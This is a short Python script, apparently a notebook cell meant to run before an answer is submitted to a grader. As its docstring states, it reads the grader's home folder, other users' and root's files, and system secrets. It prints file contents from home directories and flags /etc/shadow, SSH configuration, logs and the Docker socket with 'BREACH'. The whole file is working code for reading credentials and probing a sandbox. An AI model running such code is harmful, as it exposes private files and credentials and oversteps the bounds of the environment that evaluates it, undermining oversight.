"""Read the grader's home, other users' and the system's secrets."""
# %% before answer
import glob
import os

for folder in ("HOME_FOLDER", os.path.expanduser("~"), os.path.expanduser("~root"), "/home/*"):
    for path in glob.glob(folder + "/*") + glob.glob(folder + "/.[a-z]*/*"):
        if os.path.isfile(path) and not path.startswith("/tmp/home/.ipython"):
            print("BRE" "ACH", path, open(path, "rb").read(1000))
for path in ("/etc/shadow", "/etc/passwd", "/etc/hostname", "/etc/ssh", "/var/log", "/run", "/var/run/docker.sock"):
    if os.path.exists(path):
        print("BRE" "ACH", path)
